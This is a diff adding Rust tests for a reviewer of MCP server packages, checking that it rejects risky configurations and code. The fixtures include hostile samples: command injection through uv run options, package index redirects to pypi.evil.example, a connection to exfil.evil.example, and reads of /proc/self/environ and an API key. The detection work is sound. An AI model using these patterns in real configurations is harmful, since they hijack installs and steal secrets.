@@ -838,3 +838,184 @@ fn each_networking_tool_needs_its_open_world_hint() {
         .collect();
     assert_eq!(fails.len(), 1, "{}", r.render_human());
 }
+
+/// QA29 r3: what the harness starts is exactly the reviewed script: any program or
+/// option before it that could run other code fails; the options that change neither
+/// pass.
+#[test]
+fn only_the_reviewed_script_is_started() {
+    let config = |args: &str| {
+        format!(
+            r#"{{ "mcpServers": {{ "processkit-demo": {{ "command": "uv", "args": [{args}], "env": {{}} }} }} }}"#
+        )
+    };
+    let script = r#""context/skills/testing/demo/mcp/server.py""#;
+    for before in [
+        r#""python", "-c", "import os; os.system('x')","#,
+        r#""bash", "-c", "echo x","#,
+        r#""--python", "/tmp/evil","#,
+        r#""--with-requirements", "r.txt","#,
+    ] {
+        let s = Scratch::clean();
+        s.write(
+            "mcp/mcp-config.json",
+            config(&format!(r#""run", {before} {script}"#)),
+        );
+        let r = s.review();
+        assert_eq!(r.failed_points(), [4], "{before}: {}", r.render_human());
+    }
+    for fine in [
+        r#""--script","#,
+        r#""-q", "--python", "3.12","#,
+        r#""--python=3.11", "--no-project","#,
+    ] {
+        let s = Scratch::clean();
+        s.write(
+            "mcp/mcp-config.json",
+            config(&format!(r#""run", {fine} {script}, "--verbose""#)),
+        );
+        let r = s.review();
+        assert_eq!(
+            r.failed_points(),
+            [] as [u8; 0],
+            "{fine}: {}",
+            r.render_human()
+        );
+    }
+}
+
+/// QA29 r2, r8: a server script in a tests folder (judged as a test, so its findings only
+/// warn) fails, and so does an environment that sends uv or pip to another index or
+/// turns their checks off.
+#[test]
+fn a_test_script_or_a_package_redirect_in_the_server_config_fails() {
+    let s = Scratch::clean();
+    s.write("tests/server.py", "print('x')\n");
+    s.replace(
+        "mcp/mcp-config.json",
+        "demo/mcp/server.py",
+        "demo/tests/server.py",
+    );
+    expect(
+        &s.review(),
+        &[4],
+        &["fail 4 mcp/mcp-config.json is in a tests folder"],
+    );
+    for key in [
+        "UV_INDEX_URL",
+        "UV_NO_VERIFY_HASHES",
+        "PIP_INDEX_URL",
+        "PYTHONPATH",
+    ] {
+        let s = Scratch::clean();
+        s.replace(
+            "mcp/mcp-config.json",
+            r#""env": {}"#,
+            &format!(r#""env": {{ "{key}": "https://pypi.evil.example/simple" }}"#),
+        );
+        expect(
+            &s.review(),
+            &[4],
+            &[&format!(
+                "fail 4 mcp/mcp-config.json env `{key}` changes where"
+            )],
+        );
+    }
+}
+
+/// QA29 r4, r5, r6: code run from a path, Python that is not UTF-8 (or declares another
+/// encoding) and code in a language the review does not read all fail point 1.
+#[test]
+fn code_the_review_cannot_read_fails() {
+    let s = Scratch::clean();
+    s.server_code("import runpy\nrunpy.run_path('config/plugins.txt')");
+    expect(
+        &s.review(),
+        &[1],
+        &["fail 1 mcp/server.py runs a file as code"],
+    );
+    let s = Scratch::clean();
+    s.server_code("from importlib.machinery import SourceFileLoader\nSourceFileLoader('p', 'x').load_module()");
+    expect(
+        &s.review(),
+        &[1],
+        &["fail 1 mcp/server.py runs a file as code"],
+    );
+    let s = Scratch::clean();
+    s.write(
+        "helper.py",
+        b"# -*- coding: latin-1 -*-\n# caf\xe9\nX = 1\n",
+    );
+    expect(
+        &s.review(),
+        &[1],
+        &["fail 1 helper.py code that is not UTF-8"],
+    );
+    let s = Scratch::clean();
+    s.write("helper.py", "# -*- coding: utf-7 -*-\nX = 1\n");
+    expect(
+        &s.review(),
+        &[1],
+        &["fail 1 helper.py:1 declares the source encoding `utf-7`"],
+    );
+    let s = Scratch::clean();
+    s.write("helper.py", "# -*- coding: utf-8 -*-\nX = 1\n");
+    assert_eq!(s.review().failed_points(), [] as [u8; 0]);
+    let s = Scratch::clean();
+    s.write(
+        "mcp/sync.js",
+        "require('https').request('https://x.example');\n",
+    );
+    expect(
+        &s.review(),
+        &[1],
+        &["fail 1 mcp/sync.js `.js` code is not read"],
+    );
+}
+
+/// QA29 r7: the lesser-known doors to the network and to the environment.
+#[test]
+fn raw_sockets_asyncio_and_the_process_environment_are_seen() {
+    let s = Scratch::clean();
+    s.server_code("import _socket\n_socket.socket()");
+    assert!(
+        s.review().failed_points().contains(&2),
+        "{}",
+        s.review().render_human()
+    );
+    let s = Scratch::clean();
+    s.server_code("import asyncio\nasyncio.open_connection('exfil.evil.example', 443)");
+    assert!(
+        s.review().failed_points().contains(&2),
+        "{}",
+        s.review().render_human()
+    );
+    let s = Scratch::clean();
+    s.server_code("X = open('/proc/self/environ').read()");
+    expect(&s.review(), &[3], &["fail 3 mcp/server.py proc"]);
+    let s = Scratch::clean();
+    s.server_code("import os\nX = os.environ.__getitem__('OPENAI_API_KEY')");
+    expect(
+        &s.review(),
+        &[3],
+        &["fail 3 mcp/server.py accesses the whole environment"],
+    );
+}
+
+/// A linked `mcp/mcp-config.json` fails point 1 as a link; point 4 does not add that it
+/// is "not UTF-8 text" (QA29).
+#[cfg(unix)]
+#[test]
+fn a_linked_server_config_is_told_as_a_link_only() {
+    let s = Scratch::clean();
+    let config = s.dir.join("mcp/mcp-config.json");
+    fs_err::rename(&config, s.dir.join("real-config.json")).unwrap();
+    std::os::unix::fs::symlink("../real-config.json", &config).unwrap();
+    let r = s.review();
+    expect(&r, &[1], &["fail 1 mcp/mcp-config.json symbolic link"]);
+    assert!(
+        !r.render_human().contains("not UTF-8"),
+        "{}",
+        r.render_human()
+    );
+}
